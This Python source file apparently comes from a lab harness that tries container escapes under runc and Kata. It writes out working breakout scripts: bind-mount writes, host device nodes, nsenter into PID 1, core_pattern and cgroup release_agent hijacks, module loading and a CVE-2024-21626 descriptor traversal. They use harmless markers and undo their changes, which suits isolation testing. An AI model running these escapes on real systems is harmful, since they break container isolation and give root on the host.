"""Edition 2026, task 4, and beyond: ways out of a container, tried under both runtimes.

Each has the same options under both. What a success changed on the host is put back before the next try.
"""

import gzip
import lzma
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

from collectors.lab12.sheet_2026 import IMAGE, NEEDS
from collectors.lab12.smoke import smoke
from labreport.capture import NotApplicable, Run, Unavailable, collector, recorder
from labreport.containers.escapes.escape import (
    ALL_CAPABILITIES,
    NO_HOST_PATH,
    RUNTIMES,
    Escape,
    Field,
    attempt,
    field,
)

CORE_PATTERN = Path("/proc/sys/kernel/core_pattern")
HOST_PIDS = ("--with-ns", "pid:/proc/1/ns/pid")
OWN_PROC = "mkdir -p /own-proc && mount -t proc proc /own-proc"
"""With CAP_SYS_ADMIN a second /proc is mounted, in which nothing is masked or kept from being written."""


def both(run: Run, path: str, escape: Callable[[Field], Escape]) -> None:
    """Try an escape under runc, then under Kata, each with a field of its own."""
    with run.file(path) as out:
        for name, runtime in RUNTIMES.items():
            out.line(f"=== {name} ===")
            attempt(run, out, escape(field(run, IMAGE)), runtime)


def mounted(given: Field) -> list[str]:
    """Return the option that mounts the host's folder into the container."""
    return ["--mount", f"type=bind,src={given.folder},dst=/host,options=rbind:rw"]


def to_host_folder(given: Field, *, privileged: bool) -> Escape:
    """Write through a bind mount, as the sheet has it, with and without --privileged."""
    (given.folder / "file").write_text("untouched\n")
    return Escape(
        given,
        target="a file in a folder of the host that is mounted into the container",
        proof="the host's file, read from outside afterwards, holds the marker",
        script=f"echo {given.marker} >/host/file",
        look=["cat", str(given.folder / "file")],
        options=[*(["--privileged"] if privileged else []), *mounted(given)],
        not_started=NO_HOST_PATH if privileged else "",
        changes=[rf"^[+-]{given.folder}/file "],
    )


@collector(
    edition=2026,
    task=4,
    writes=["results/runc-escape-attempt.txt", "results/kata-escape-attempt.txt"],
    needs=NEEDS,
    after=[smoke],
    role="escape",
)
def host_folder(run: Run) -> None:
    """A host folder mounted into the container: does a write reach the host's file?"""
    for name, runtime in RUNTIMES.items():
        with run.file(f"results/{name}-escape-attempt.txt") as out:
            for privileged in (True, False):
                out.line(f"=== {name}, {'' if privileged else 'not '}privileged ===")
                attempt(run, out, to_host_folder(field(run, IMAGE), privileged=privileged), runtime)


@contextmanager
def loop_device(run: Run, given: Field) -> Iterator[str]:
    """Make a block device of the host whose first bytes are the marker; yield its number."""
    disk = given.folder / "disk"
    disk.write_bytes(given.marker.encode().ljust(1 << 20, b"\n"))
    device = run.command(["losetup", "--find", "--show", str(disk)]).text.strip()
    undo = run.undo(["losetup", "--detach", device])
    try:
        yield device.removeprefix("/dev/loop")
    finally:
        undo()


@collector(
    edition=2026, task=4, writes=["escapes/host-device.txt"], needs=NEEDS, after=[smoke], role="escape"
)
def host_device(run: Run) -> None:
    """A node made for a device of the host: can its data be read?"""
    ways = {"every capability": (ALL_CAPABILITIES, ""), "privileged": (("--privileged",), NO_HOST_PATH)}
    with run.file("escapes/host-device.txt") as out:
        for title, (options, not_started) in ways.items():
            for name, runtime in RUNTIMES.items():
                given = field(run, IMAGE)
                with loop_device(run, given) as number:
                    escape = Escape(
                        given,
                        target="a block device of the host, whose first bytes are the marker",
                        proof="the container prints the marker, which it was not told",
                        script=f"mknod /node b 7 {number} && head -c 64 /node",
                        options=options,
                        not_started=not_started,
                    )
                    out.line(f"=== {name}, {title} ===")
                    attempt(run, out, escape, runtime)


def into_process_1(given: Field) -> Escape:
    """Enter the mount namespace of process 1, and write a file there."""
    return Escape(
        given,
        target="the mount namespace of the host's process 1, whose process namespace is given",
        proof="a file in the host's /etc holds the marker",
        script=f"nsenter --target 1 --mount -- sh -c 'echo {given.marker} >{given.file}'",
        look=["cat", str(given.file)],
        options=[*ALL_CAPABILITIES, *HOST_PIDS],
        changes=[rf"^\+{given.file} "],
    )


@collector(edition=2026, task=4, writes=["escapes/nsenter.txt"], needs=NEEDS, after=[smoke], role="escape")
def nsenter(run: Run) -> None:
    """Into process 1's mount namespace: which process 1 is it?"""
    both(run, "escapes/nsenter.txt", into_process_1)


def kernel_log(run: Run, given: Field) -> list[str]:
    """Write a line to the host's kernel log; return the command that shows the log from there on."""
    fence = given.started.replace("started", "fence")
    run.command(["sh", "-c", 'echo "$1" >/dev/kmsg', "fence", fence])
    return ["sh", "-c", f"dmesg | sed -n '/{fence}/,$p'"]


@collector(edition=2026, task=4, writes=["escapes/kmsg.txt"], needs=NEEDS, after=[smoke], role="escape")
def kmsg(run: Run) -> None:
    """A line written to /dev/kmsg: into which kernel's log?"""

    def write(given: Field) -> Escape:
        return Escape(
            given,
            target="the host's kernel log, through a node of /dev/kmsg that the container is given",
            proof="the host's kernel log has a line with the marker",
            script=f"echo {given.marker} >/dev/kmsg",
            look=kernel_log(run, given),
            options=["--device", "/dev/kmsg"],
        )

    both(run, "escapes/kmsg.txt", write)


@collector(edition=2026, task=4, writes=["escapes/sysrq.txt"], needs=NEEDS, after=[smoke], role="escape")
def sysrq(run: Run) -> None:
    """A key pressed by sysrq: which kernel answers?"""

    def press(given: Field) -> Escape:
        return Escape(
            given,
            target="the host's kernel, asked by sysrq for its list of keys (h), which harms nothing",
            proof="the list stands in the host's kernel log, after a line that was written before the try",
            script=f"{OWN_PROC} && echo h >/own-proc/sysrq-trigger",
            look=kernel_log(run, given),
            shows="sysrq: HELP",
            options=ALL_CAPABILITIES,
        )

    both(run, "escapes/sysrq.txt", press)


def unpacked(path: Path) -> bytes:
    """Return a module's bytes as the kernel's loader wants them; raise Unavailable for an unknown packing."""
    data = path.read_bytes()
    match path.suffix:
        case ".ko":
            return data
        case ".xz":
            return lzma.decompress(data)
        case ".gz":
            return gzip.decompress(data)
    raise Unavailable(f"{path.name}: packed in a way that Python does not read", "put it there unpacked")


def unloaded_module(folder: Path) -> str:
    """Put a module that the host's kernel has and has not loaded into a folder; return its name."""
    loaded = Path("/proc/modules").read_text().split()
    for name in ("crc8", "crc7", "dummy"):
        found = recorder.output(["modinfo", "--field", "filename", name])
        if name not in loaded and found.startswith("/"):
            (folder / "module.ko").write_bytes(unpacked(Path(found)))
            return name
    raise NotApplicable("the host's kernel has none of the modules crc8, crc7, dummy that is not loaded yet")


@collector(edition=2026, task=4, writes=["escapes/module.txt"], needs=NEEDS, after=[smoke], role="escape")
def module(run: Run) -> None:
    """A module of the host's kernel, loaded from a container: into which kernel?"""
    with run.file("escapes/module.txt") as out:
        for name, runtime in RUNTIMES.items():
            given = field(run, IMAGE)
            what = unloaded_module(given.folder)
            undo = run.undo(["rmmod", what])
            escape = Escape(
                given,
                target=f"the host's kernel, which is to load its own module {what}",
                proof="the host's list of modules has it afterwards",
                script="insmod /host/module.ko",
                look=["cat", "/proc/modules"],
                shows=rf"(?m)^{what} ",
                options=[*ALL_CAPABILITIES, *mounted(given)],
                changes=[rf"^\+{what}$"],
            )
            out.line(f"=== {name} ===")
            attempt(run, out, escape, runtime)
            undo()


@collector(
    edition=2026, task=4, writes=["escapes/core-pattern.txt"], needs=NEEDS, after=[smoke], role="escape"
)
def core_pattern(run: Run) -> None:
    """A program set as the kernel's handler of crashes: of which kernel?"""
    before = CORE_PATTERN.read_text()
    with run.file("escapes/core-pattern.txt") as out:
        for name, runtime in RUNTIMES.items():
            given = field(run, IMAGE)
            undo = run.undo(["sh", "-c", 'printf %s "$1" >/proc/sys/kernel/core_pattern', "undo", before])
            escape = Escape(
                given,
                target="the program that the host's kernel starts, as root, for every crash",
                proof="the host's core_pattern holds the marker",
                script=f"{OWN_PROC} && echo '|/{given.marker}' >/own-proc/sys/kernel/core_pattern",
                look=["cat", str(CORE_PATTERN)],
                options=ALL_CAPABILITIES,
                changes=[r"^-kernel\.core_pattern = ", rf"^\+kernel\.core_pattern = \|/{given.marker}"],
            )
            out.line(f"=== {name} ===")
            attempt(run, out, escape, runtime)
            undo()


AGENT = r"""
upper=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/mounts | head -n 1)
id=$(sed -n 's,.*/,,p;q' /proc/1/cgroup)
root=${upper:-/run/kata-containers/$id/rootfs}
mkdir /groups && mount -t cgroup -o none,name=escape escape /groups && mkdir /groups/one
echo 1 >/groups/one/notify_on_release && echo "$root/agent" >/groups/release_agent
sh -c 'echo $$ >/groups/one/cgroup.procs'
sleep 3; rmdir /groups/one; umount /groups
"""
"""A hierarchy of its own with one group; its last process ends, and the kernel runs the agent. Where that
lies outside the container, the mount of its root tells: runc's overlay; or it is Kata's, in the guest."""


def as_release_agent(given: Field) -> Escape:
    """Have the kernel run a program of the container's."""
    return Escape(
        given,
        target="the program that the host's kernel starts for a cgroup of version 1 that becomes empty",
        proof="that program, run by the host's kernel, wrote the marker into a file in the host's /etc",
        script=f"printf '#!/bin/sh\\necho {given.marker} >{given.file}\\n' >/agent; chmod 755 /agent{AGENT}",
        look=["cat", str(given.file)],
        options=ALL_CAPABILITIES,
        changes=[rf"^\+{given.file} "],
    )


@collector(
    edition=2026, task=4, writes=["escapes/release-agent.txt"], needs=NEEDS, after=[smoke], role="escape"
)
def release_agent(run: Run) -> None:
    """A program set as the agent of a cgroup: whose kernel runs it?"""
    if not re.search(r"\tcgroup$", Path("/proc/filesystems").read_text(), re.MULTILINE):
        raise NotApplicable("the host's kernel has no cgroups of version 1, and so no release_agent")
    both(run, "escapes/release-agent.txt", as_release_agent)


STEPS = "../../../../../../../.."


def by_descriptor(given: Field, options: tuple[str, ...]) -> Escape:
    """Step from every directory that is open in the container's process up to the root, and down again."""
    secret = given.folder / "secret"
    secret.write_text(f"{given.marker}\n")
    return Escape(
        given,
        target="a file of the host, by way of a directory of the host that was left open",
        proof="the container prints the marker, which it was not told",
        script=f"ls -l /proc/1/fd; for one in . /proc/1/fd/*; do cat $one/{STEPS}{secret}; done",
        options=options,
        not_started=r"not a directory|breakout detected|ENOENT" if options else "",
    )


@collector(edition=2026, task=4, writes=["escapes/descriptor.txt"], needs=NEEDS, after=[smoke], role="escape")
def descriptor(run: Run) -> None:
    """A directory of the host left open in the container's process, as in CVE-2024-21626."""
    ways: dict[str, tuple[str, ...]] = {
        "through every descriptor": (),
        "started in descriptor 7": ("--cwd", "/proc/self/fd/7"),
    }
    with run.file("escapes/descriptor.txt") as out:
        for title, options in ways.items():
            for name, runtime in RUNTIMES.items():
                out.line(f"=== {name}, {title} ===")
                attempt(run, out, by_descriptor(field(run, IMAGE), options), runtime)
